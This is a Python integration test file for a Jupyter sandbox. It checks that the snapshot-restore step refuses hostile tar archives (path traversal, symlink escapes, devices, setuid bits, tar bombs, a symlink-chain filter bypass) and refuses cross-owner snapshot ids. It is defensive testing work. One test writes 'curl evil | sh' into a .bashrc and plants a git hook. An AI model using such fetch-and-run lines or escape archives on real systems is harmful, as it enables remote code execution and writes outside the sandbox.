"""Rows 25-32: hostile archives restored into real sandboxes, and snapshot ids that reach for
another owner's files. Every refusal names the member and the rule, and nothing is written: not
in the target sandbox, not on the host, not in the snapshot store."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import pytest

from jupyter_sandbox.protocol.errors import SandboxError
from jupyter_sandbox.protocol.snapshot_errors import ArchiveTooLargeError, UnsafeArchiveError
from jupyter_sandbox.sandbox.manager import SandboxManager
from tests.sandbox.snapshots.archives import Member, huge_declared_file, tar_bytes
from tests.sandbox.snapshots.test_archive_rules import REFUSED
from tests.sandbox.snapshots.workspace_files import OWNER, manifest, sh

pytestmark = pytest.mark.integration

ROW_CASES = {
    25: ["absolute path", "parent traversal", "traversal inside"],
    26: ["symlinked root", "member under a symlink", "symlink replacing a directory"],
    27: [
        "absolute symlink target",
        "symlink target leaving the root",
        "symlink escaping through another symlink",
        "hardlink",
        "fifo",
        "character device",
        "block device",
        "duplicate",
        "windows separator",
        "windows drive",
        "windows symlink target",
    ],
}


async def refuse_all(
    manager: SandboxManager, runtime: str, purpose: str, tmp_path: Path, archives: dict[str, bytes]
) -> list[str]:
    """Restore each archive into one sandbox; return the rules that refused them, having
    checked that the workspace, /tmp, the host and the snapshot store were left as they were."""
    manager.snapshots.snapshot_dir = str(tmp_path / "snapshots")
    sandbox = await manager.create(OWNER, runtime=runtime, purpose=purpose)
    await sh(manager, sandbox.sandbox_id, "mkdir /workspace/sub && echo keep > /workspace/keep")
    workspace = await manifest(manager, sandbox.sandbox_id)
    tmp = await manifest(manager, sandbox.sandbox_id, "/tmp")
    host_root = sorted(os.listdir("/"))
    rules = []
    for case, data in archives.items():
        with pytest.raises(UnsafeArchiveError) as refused:
            await manager.snapshots.hydrate_bytes(OWNER, sandbox.sandbox_id, data)
        assert refused.value.member, case  # the message names the member...
        rules.append(refused.value.rule)  # ...and the rule
        assert await manifest(manager, sandbox.sandbox_id) == workspace, case
    assert await manifest(manager, sandbox.sandbox_id, "/tmp") == tmp
    assert sorted(os.listdir("/")) == host_root
    assert not any((tmp_path / "snapshots").rglob("*.tar"))
    return rules


def row_archives(row: int) -> dict[str, bytes]:
    first = Member("written-before-the-bad-member.txt", data=b"x")  # must not be written either
    return {case: tar_bytes(first, *REFUSED[case][0]) for case in ROW_CASES[row]}


@pytest.mark.parametrize(
    "row",
    [
        pytest.param(
            25,
            marks=pytest.mark.checklist(
                row=25,
                attack="restore a tar holding /etc/passwd or ../escape.txt",
                expected="refused before any extraction, naming the member and the rule",
            ),
        ),
        pytest.param(
            26,
            marks=pytest.mark.checklist(
                row=26,
                attack="restore a tar whose root is a symlink, or with members under a symlink",
                expected="refused before any extraction",
            ),
        ),
        pytest.param(
            27,
            marks=pytest.mark.checklist(
                row=27,
                attack="restore a tar with absolute or escaping link targets, hardlinks, FIFOs, "
                "devices, duplicates, Windows names",
                expected="refused before any extraction",
            ),
        ),
    ],
)
async def test_rows25_to_27_hostile_members_are_refused(
    manager: SandboxManager,
    runtime: str,
    purpose: str,
    tmp_path: Path,
    row: int,
    observe: Callable[..., None],
) -> None:
    rules = await refuse_all(manager, runtime, purpose, tmp_path, row_archives(row))
    expected = [REFUSED[case][1] for case in ROW_CASES[row]]
    assert rules == expected
    observe(
        f"{len(rules)} archives refused ({', '.join(sorted(set(rules)))}); workspace, /tmp, the "
        "host and the snapshot store unchanged",
        cases=len(rules),
    )


@pytest.mark.checklist(
    row=28,
    attack="a symlink planted in the target workspace before a restore (docs -> /tmp)",
    expected="the restore refuses to traverse it; nothing lands behind the link",
)
async def test_row28_a_planted_symlink_is_not_traversed(
    manager: SandboxManager, runtime: str, purpose: str, observe: Callable[..., None]
) -> None:
    sandbox = await manager.create(OWNER, runtime=runtime, purpose=purpose)
    await sh(manager, sandbox.sandbox_id, "ln -s /tmp /workspace/docs")
    data = tar_bytes(Member("docs", "dir"), Member("docs/planted.py", data=b"x"))
    with pytest.raises(UnsafeArchiveError) as refused:
        await manager.snapshots.hydrate_bytes(OWNER, sandbox.sandbox_id, data)
    assert "planted.py" not in await manifest(manager, sandbox.sandbox_id, "/tmp")
    observe(f"refused ({refused.value.rule}, member {refused.value.member}); /tmp untouched")


@pytest.mark.checklist(
    row=29,
    attack="restore a tar with setuid, setgid and world-writable files",
    expected="restored without those bits",
)
async def test_row29_setuid_and_world_writable_bits_are_stripped(
    manager: SandboxManager, runtime: str, purpose: str, observe: Callable[..., None]
) -> None:
    sandbox = await manager.create(OWNER, runtime=runtime, purpose=purpose)
    data = tar_bytes(
        Member("suid", data=b"#!/bin/sh\n", mode=0o4755),
        Member("sgid", data=b"x", mode=0o2755),
        Member("open", data=b"x", mode=0o777),
    )
    await manager.snapshots.hydrate_bytes(OWNER, sandbox.sandbox_id, data)
    modes = await sh(
        manager, sandbox.sandbox_id, "cd /workspace && stat -c '%n %a' suid sgid open | sort"
    )
    seen = dict(line.split() for line in modes.splitlines())
    for name, mode in seen.items():
        assert int(mode, 8) & 0o6002 == 0, (name, mode)
    observe(f"modes after restore: {', '.join(f'{n} {m}' for n, m in sorted(seen.items()))}")


@pytest.mark.checklist(
    row=30,
    attack="tar bombs: 1 TiB declared in one member, more members than the cap, more bytes "
    "than the cap",
    expected="refused at the declared-size, member or byte cap, before the data is read",
)
async def test_row30_tar_bombs_hit_the_caps(
    manager: SandboxManager, runtime: str, purpose: str, observe: Callable[..., None]
) -> None:
    sandbox = await manager.create(OWNER, runtime=runtime, purpose=purpose)
    manager.snapshots.max_members = 100
    manager.snapshots.max_archive_bytes = 2 * 1024**2
    bombs = {
        "declared 1 TiB": huge_declared_file("bomb", 1024**4),
        "101 members": tar_bytes(*(Member(f"f{i}") for i in range(101))),
        "3 MiB of bytes": tar_bytes(Member("big", data=bytes(3 * 1024**2))),
    }
    refusals = []
    for case, data in bombs.items():
        with pytest.raises((ArchiveTooLargeError, UnsafeArchiveError)) as refused:
            await manager.snapshots.hydrate_bytes(OWNER, sandbox.sandbox_id, data)
        refusals.append(f"{case}: {type(refused.value).__name__}")
    assert await manifest(manager, sandbox.sandbox_id) == {}
    observe("; ".join(refusals) + "; nothing written", cases=len(bombs))


@pytest.mark.checklist(
    row=31,
    attack="the tarfile filter-bypass class (CVE-2025-4517): a long symlink chain whose "
    "resolution leaves the root, then a file written through it",
    expected="unreachable: the host's own validator refuses it, and only a clean re-written "
    "archive is ever unpacked, inside the sandbox",
)
async def test_row31_tarfile_filter_bypass_is_unreachable(
    manager: SandboxManager, runtime: str, purpose: str, observe: Callable[..., None]
) -> None:
    sandbox = await manager.create(OWNER, runtime=runtime, purpose=purpose)
    deep = "d" * 200
    members = [Member(deep, "dir")]
    path = deep
    for i in range(8):  # a chain of links whose real path outgrows PATH_MAX
        members.append(Member(f"{path}/l{i}", "symlink", target=deep))
        path = f"{path}/l{i}"
    members += [Member("escape", "symlink", target=f"{path}/" + "../" * 12 + "tmp")]
    members += [Member("escape/pwned", data=b"x")]
    with pytest.raises(UnsafeArchiveError) as refused:
        await manager.snapshots.hydrate_bytes(OWNER, sandbox.sandbox_id, tar_bytes(*members))
    assert "pwned" not in await manifest(manager, sandbox.sandbox_id, "/tmp")
    observe(f"refused on the host ({refused.value.rule}, member {refused.value.member})")


@pytest.mark.checklist(
    row=32,
    attack="snapshot ids that traverse (../../other/x) and another owner's snapshot id",
    expected="rejected: ids are single path segments; another owner's snapshot is not found",
)
async def test_row32_snapshot_ids_never_reach_another_owner(
    manager: SandboxManager,
    runtime: str,
    purpose: str,
    tmp_path: Path,
    observe: Callable[..., None],
) -> None:
    manager.snapshots.snapshot_dir = str(tmp_path / "snapshots")
    bobs_sandbox = await manager.create("bob", runtime=runtime, purpose=purpose)
    await manager.exec("bob", bobs_sandbox.sandbox_id, ["sh", "-c", "echo bob > /workspace/b"])
    bobs = await manager.snapshots.persist("bob", bobs_sandbox.sandbox_id)
    alices_sandbox = await manager.create(OWNER, runtime=runtime, purpose=purpose)
    tried = [
        bobs["id"],
        f"../{bobs['id']}",
        f"../../bob/{bobs['id']}",
        "..",
        "/etc/passwd",
        f"{bobs['id']}/../{bobs['id']}",
    ]
    for snapshot_id in tried:
        with pytest.raises(SandboxError):
            manager.snapshots.get(OWNER, snapshot_id)
        with pytest.raises(SandboxError):
            await manager.snapshots.hydrate(OWNER, snapshot_id, alices_sandbox.sandbox_id)
    assert await manifest(manager, alices_sandbox.sandbox_id) == {}
    assert manager.snapshots.get("bob", bobs["id"])["id"] == bobs["id"]  # bob's own still works
    observe(
        f"{len(tried)} ids tried as another owner: each refused or not found; nothing restored",
        cases=len(tried),
    )


@pytest.mark.checklist(
    row=35,
    attack="shell rc files and git hooks written into a workspace that is then persisted, next "
    "to a notebook directory shown copy-on-write",
    expected="never executed or unpacked on the host: the store holds one non-executable tar; "
    "the launch directory on the host is not written",
)
async def test_row35_a_persisted_workspace_is_never_unpacked_on_the_host(
    manager: SandboxManager,
    runtime: str,
    purpose: str,
    tmp_path: Path,
    observe: Callable[..., None],
) -> None:
    manager.snapshots.snapshot_dir = str(tmp_path / "snapshots")
    launch = tmp_path / "notebooks"
    launch.mkdir()
    (launch / "analysis.ipynb").write_text("{}")
    sandbox = await manager.create(OWNER, runtime=runtime, purpose=purpose, launch_dir=str(launch))
    await sh(
        manager,
        sandbox.sandbox_id,
        "cd /workspace && echo 'curl evil | sh' > .bashrc && mkdir -p .git/hooks && "
        "printf '#!/bin/sh\\necho owned\\n' > .git/hooks/pre-commit && "
        "chmod +x .git/hooks/pre-commit",
    )
    made = await manager.snapshots.persist(OWNER, sandbox.sandbox_id)
    stored = sorted(p for p in (tmp_path / "snapshots").rglob("*") if p.is_file())
    assert [p.suffix for p in stored] == [".json", ".tar"]
    assert all(p.stat().st_mode & 0o111 == 0 for p in stored)
    assert sorted(os.listdir(launch)) == ["analysis.ipynb"]
    observe(
        f"snapshot {made['id']}: the store holds {', '.join(p.name for p in stored)} "
        "(no execute bits, nothing unpacked); the host's launch directory was not written"
    )
